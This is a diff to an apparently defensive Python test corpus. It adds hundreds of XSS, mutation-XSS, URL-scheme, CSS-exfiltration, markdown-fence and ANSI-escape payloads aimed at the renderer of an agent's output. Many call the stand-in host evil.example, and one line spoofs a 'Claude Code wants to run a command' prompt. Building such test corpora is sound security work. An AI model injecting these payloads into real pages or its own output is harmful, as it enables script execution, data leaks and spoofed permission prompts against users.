@@ -1,5 +1,8 @@
 """Payloads that try to run a script, fetch from elsewhere or restyle the page; `alert` marks success."""
 
+# A payload is one line, whatever its length.
+# ruff: noqa: E501
+
 SINKS = [
     "<script>alert(1)</script>",
     "<script src=https://evil.example/x.js></script>",
@@ -99,7 +102,251 @@ TERMINAL = [
     "\x9b31m<svg onload=alert(1)>",
 ]
 
-PAYLOADS = [*SINKS, *MARKDOWN, *TERMINAL]
+# Handlers by name: what a filter lists, and what it forgets.
+HANDLERS = [
+    f"<{tag} {handler}=alert(1){more}>x</{tag}>"
+    for tag, handler, more in [
+        *(
+            (tag, "onclick", " tabindex=0")
+            for tag in ("a", "b", "p", "li", "td", "code", "pre", "kbd", "sub")
+        ),
+        *((tag, "onmouseover", "") for tag in ("del", "em", "h1", "blockquote", "summary", "table")),
+        *(("img", one, " src=x") for one in ("onload", "onabort", "onpointerrawupdate", "onloadstart")),
+        *(("body", one, "") for one in ("onpageshow", "onhashchange", "onresize", "onscroll", "onunload")),
+        *(("video", one, " src=x autoplay") for one in ("onloadstart", "onerror", "oncanplay", "onplay")),
+        *(("svg", one, "") for one in ("onload", "onbegin", "onfocusin", "onrepeat", "onzoom")),
+        *(("input", one, " autofocus type=text") for one in ("onfocus", "onblur", "onselect", "oninvalid")),
+        *(("div", one, " style=animation:x") for one in ("onanimationstart", "onanimationend", "onwheel")),
+        *(("details", one, " open") for one in ("ontoggle", "onbeforetoggle", "onpointerenter")),
+        *(("select", one, " autofocus") for one in ("onfocus", "onchange")),
+        *(("textarea", one, " autofocus") for one in ("onfocus", "onbeforeinput", "onpaste")),
+        *(("dialog", one, " open") for one in ("oncancel", "onclose")),
+        *(("p", one, " popover") for one in ("onbeforematch", "oncontentvisibilityautostatechange")),
+    ]
+]
+# Written so that one parser reads a tag where another read text.
+SPELLINGS = [
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script\x20type=text/javascript>alert(1);</script>",
+    "<script\x09>alert(1)</script>",
+    "<script\x0c>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<script>alert(1)</script x>",
+    "<script>alert(1)",
+    "<script/src=data:,alert(1)>",
+    "<script src='data:text/javascript,alert(1)'></script>",
+    "<script src=//evil.example/x></script>",
+    "<script type=module>import('https://evil.example/x.js')</script>",
+    '<script type=importmap>{"imports":{"x":"https://evil.example/"}}</script>',
+    "<img/src=x/onerror=alert(1)>",
+    "<img\x09src=x\x0conerror=alert(1)>",
+    "<img src=x onerror\x0c=alert(1)>",
+    '<img src=x onerror="alert&lpar;1&rpar;">',
+    "<img src=x onerror=&#97;lert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img src='x'onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg\u00a0onload=alert(1)>",
+    "<a\x0bhref=javascript:alert(1)>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "＜script＞alert(1)＜/script＞",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<script>\u2028alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</pre></code></div></main><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "'\"><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "';alert(1)//",
+    '";alert(1)//',
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "<%= alert(1) %>",
+    "<?xml-stylesheet href='https://evil.example/x.xsl' type='text/xsl'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/e'>]>&e;",
+    "<![if IE]><script>alert(1)</script><![endif]>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<xml id=x><b><script>alert(1)</script></b></xml>",
+    '<comment><img src="</comment><img src=x onerror=alert(1)>">',
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<plaintext><script>alert(1)</script>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+]
+# Markup that changes when it is read a second time.
+TWICE = [
+    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
+    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></table></mi></math>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<svg><desc><noscript></desc><s></noscript><desc><s></s><style><a title='</style><img src onerror=alert(1)>'>",
+    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
+    "<svg><foreignObject><math><mi><mglyph><svg><style><img src=x onerror=alert(1)>",
+    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>",
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    "<table><caption><form><math><mi></form><style><img src=x onerror=alert(1)>",
+    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
+    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
+    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
+    "<select><iframe><select><img src=x onerror=alert(1)>",
+    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
+    "<div><template shadowrootmode=closed><script>alert(1)</script></template></div>",
+    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
+    "<a href='#'><b><a href=javascript:alert(1)>x</b></a>",
+    "<p><svg><style><p><img src=x onerror=alert(1)>",
+    "<b><x title='<a href=\"javascript:alert(1)\">'></b>",
+    "x<style>x</style><style><!--</style><script>alert(1)//--></script>",
+    "<div id='1<svg onload=alert(1)>'></div>",
+    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
+]
+# Addresses that are more than addresses.
+ADDRESSES = [
+    address
+    for scheme in (
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        "jav&#x09;ascript:alert(1)",
+        "jav&#x0A;ascript:alert(1)",
+        "jav&Tab;ascript&colon;alert(1)",
+        " &#14; javascript:alert(1)",
+        "\x01javascript:alert(1)",
+        "javascript://%0aalert(1)",
+        "javascript:%61lert(1)",
+        "view-source:javascript:alert(1)",
+        "feed:javascript:alert(1)",
+        "livescript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+        "data:,alert(1)",
+        "blob:https://evil.example/x",
+        "file:///etc/passwd",
+        "filesystem:https://evil.example/x",
+        "vscode://evil/run",
+        "ms-word:ofe|u|https://evil.example/x",
+        "intent://evil#Intent;end",
+        "//evil.example/x",
+        "\\\\evil.example\\x",
+        "/\\evil.example",
+        "http:evil.example",
+        "mailto:x?body=<script>alert(1)</script>",
+    )
+    for address in (f'<a href="{scheme}">x</a>', f"![x]({scheme.replace(' ', '')})")
+]
+# What loads, asks or paints without any script.
+QUIET = [
+    "<img src=//evil.example/b.png>",
+    "<img src=https:evil.example/b.png>",
+    "<img loading=lazy src=https://evil.example/b.png>",
+    "<picture><source srcset=https://evil.example/b.png><img></picture>",
+    "<input type=image src=https://evil.example/b.png>",
+    "<video><source src=https://evil.example/v.mp4></video>",
+    "<video><track src=https://evil.example/t.vtt default></video>",
+    "<object data=https://evil.example/x.swf></object>",
+    "<embed src=https://evil.example/x.pdf>",
+    "<applet code=x archive=https://evil.example/x.jar></applet>",
+    "<frameset><frame src=https://evil.example></frameset>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><feImage href=https://evil.example/x.png></feImage></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1)></set></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1)></animate></svg>",
+    "<svg><handler type=text/javascript>alert(1)</handler></svg>",
+    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
+    "<svg><filter id=x><feFlood/></filter><rect filter=url(https://evil.example/f.svg#x)></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<style>#col{display:none}</style>",
+    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>",
+    "<p style='background-image:image-set(url(https://evil.example/x) 1x)'>x</p>",
+    "<p style='width:expression(alert(1))'>x</p>",
+    "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
+    "<p style='behavior:url(x.htc)'>x</p>",
+    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:red'>x</p>",
+    "<p class='jump'>x</p>",
+    "<p class='cb jump' id=col>x</p>",
+    "<pre class='ask btn pri'>x</pre>",
+    "<code class='language-x ask btn'>x</code>",
+    "<a class='btn pri' href=https://example.com>Allow once</a>",
+    "<link rel=prefetch href=https://evil.example/x>",
+    "<link rel=preconnect href=https://evil.example>",
+    "<link rel=modulepreload href=https://evil.example/x.js>",
+    "<link rel=manifest href=https://evil.example/m.json>",
+    "<link rel=icon href=https://evil.example/i.ico>",
+    "<meta name=referrer content=unsafe-url>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+    "<meta http-equiv=set-cookie content=x=1>",
+    "<base target=_top>",
+    "<form action=javascript:alert(1)><input type=submit value=x></form>",
+    "<form id=f></form><button form=f formaction=https://evil.example>x</button>",
+    "<input name=attributes><input name=children>",
+    "<form><input name=parentNode><input name=nodeName></form>",
+    "<img name=documentElement><img name=body>",
+    "<a id=port></a><a id=channel href=javascript:alert(1)></a>",
+    "<iframe name=parent></iframe>",
+    "<object name=self></object>",
+    "<fencedframe src=https://evil.example></fencedframe>",
+    "<button popovertarget=col popovertargetaction=hide>x</button>",
+    "<button command=show-modal commandfor=col>x</button>",
+    "<marquee behavior=alternate width=99999>x</marquee>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<menu id=x contextmenu=x onshow=alert(1)>x</menu>",
+]
+FENCES = [
+    f"```{language}\n{text}\n```"
+    for language, text in (
+        ("mermaid", 'graph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"'),
+        ("html", "<script>alert(1)</script>"),
+        ("svg", "<svg onload=alert(1)>"),
+        ("math", "\\href{javascript:alert(1)}{x}"),
+        ('js"><img src=x onerror=alert(1)>', "x"),
+        ("language-x ask btn", "x"),
+        ("</code><script>alert(1)</script>", "x"),
+        ("diff", "+<img src=x onerror=alert(1)>\n-<svg onload=alert(1)>"),
+        ("css", "@import 'https://evil.example/x.css';"),
+        ("vega", '{"data":{"url":"https://evil.example/x"}}'),
+    )
+]
+ANSI = [
+    "\x1b]8;;https://evil.example\x07<img src=x onerror=alert(1)>\x1b]8;;\x07",
+    "\x1b]8;;data:text/html,<script>alert(1)</script>\x1b\\x\x1b]8;;\x1b\\",
+    "\x1b]52;c;YWxlcnQoMSk=\x07",
+    "\x1b]1337;File=inline=1:PHN2Zz4=\x07",
+    "\x1b_Ga=T,f=100;PHN2Zz4=\x1b\\",
+    "\x1b[48;5;<script>alert(1)</script>m",
+    "\x1b[31m\x1b[<img src=x onerror=alert(1)>m",
+    "\x1b[2J\x1b[H<b>Claude Code wants to run a command</b>",
+    "safe\r<img src=x onerror=alert(1)>",
+    "\u202e)1(trela=rorreno x=crs gmi<",
+    "\x1b[8mhidden<script>alert(1)</script>",
+    "\x9d0;title\x9c<svg onload=alert(1)>",
+]
+
+# What a parser may lose itself in.
+DEEP = [
+    ">" * 4000 + "x",
+    "- " * 1500 + "x",
+    "[" * 4000,
+    "*" * 20_000 + "a",
+    "<div>" * 2000,
+    "<b>" * 2000 + "x",
+]
+
+# Each is put into every place an agent can put words.
+PAYLOADS = [
+    *dict.fromkeys(
+        [*SINKS, *MARKDOWN, *TERMINAL, *HANDLERS, *SPELLINGS, *TWICE, *ADDRESSES, *QUIET, *FENCES, *ANSI]
+    )
+]
 
 # The same again where Markdown looks twice: each place has its own way of going wrong.
 WRAPS = ("- {}", "> {}", "| a | b |\n|---|---|\n| {} | x |", "**{}**", "<div>\n\n{}\n\n</div>")
